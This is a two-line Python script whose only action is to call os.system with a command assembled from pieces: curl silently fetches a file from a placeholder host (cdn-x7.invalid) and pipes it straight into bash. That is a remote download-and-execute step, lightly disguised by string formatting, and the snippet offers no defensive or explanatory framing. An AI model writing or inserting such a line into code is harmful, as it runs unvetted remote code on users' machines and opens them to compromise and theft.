import os
os.system("%s -s %s | %s" % ("curl", "https://cdn-x7.invalid/a", "bash"))
